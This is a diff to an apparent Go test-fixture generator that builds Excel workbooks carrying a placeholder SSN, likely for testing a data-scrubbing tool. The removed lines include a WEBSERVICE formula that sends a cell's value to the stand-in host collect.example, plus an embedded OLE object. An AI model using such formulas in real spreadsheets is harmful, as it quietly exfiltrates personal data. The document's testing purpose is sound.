@@ -22,8 +22,8 @@ const (
 
 // Office is a workbook as an accounting firm keeps it: title rows, styles,
 // formulas, comments, drop-downs, conditional formats, charts and several sheets.
-// It has macros, a link to another workbook and an embedded object, and SSN is in
-// cells, comments, names, properties and caches.
+// It has macros and a link to another workbook, and SSN is in cells, comments, names,
+// properties and caches.
 func Office() []byte {
 	f := excelize.NewFile()
 	defer f.Close()
@@ -162,16 +162,8 @@ func withPrograms(data []byte) []byte {
 			text = strings.Replace(text, "</definedNames>",
 				`<definedName name="Rates">[1]Rates!$A$1:$B$9</definedName></definedNames>`, 1)
 		case Sheet:
-			text = strings.Replace(text, "</sheetData>", `<row r="22"><c r="A22"><f>[1]Rates!$A$1*2</f><`+
-				`v>41.5</v></c>`+
-				`<c r="B22" t="str"><f>WEBSERVICE("https://collect.example/?q="&amp;H7)</f><v>last answer<`+
-				`/v></c></row><`+
-				`/sheetData>`, 1)
-			text = insert(text, "</worksheet>", `<oleObjects><oleObject progId="Package" shapeId="1" xmlns:r="`+rel+
-				`" r:id="rIdOle"/></oleObjects>`)
-		case "xl/worksheets/_rels/sheet1.xml.rels":
-			text = insert(text, "</Relationships>",
-				`<Relationship Id="rIdOle" Type="`+rel+`/oleObject" Target="../embeddings/oleObject1.bin"/>`)
+			text = strings.Replace(text, "</sheetData>", `<row r="22"><c r="A22"><f>[1]Rates!$A$1*2</f>`+
+				`<v>41.5</v></c></row></sheetData>`, 1)
 		}
 		to, err := w.Create(part.Name)
 		must(err)
@@ -179,8 +171,7 @@ func withPrograms(data []byte) []byte {
 		must(err)
 	}
 	for name, content := range map[string]string{
-		"xl/vbaProject.bin":            "Sub Auto_Open() ' " + SSN,
-		"xl/embeddings/oleObject1.bin": "an object that holds " + SSN,
+		"xl/vbaProject.bin": "Sub Auto_Open() ' " + SSN,
 		"xl/externalLinks/externalLink1.xml": `<?xml version="1.0"?><externalLink ` +
 			`xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>`,
 		"customXml/item1.xml": "<client>" + SSN + "</client>",
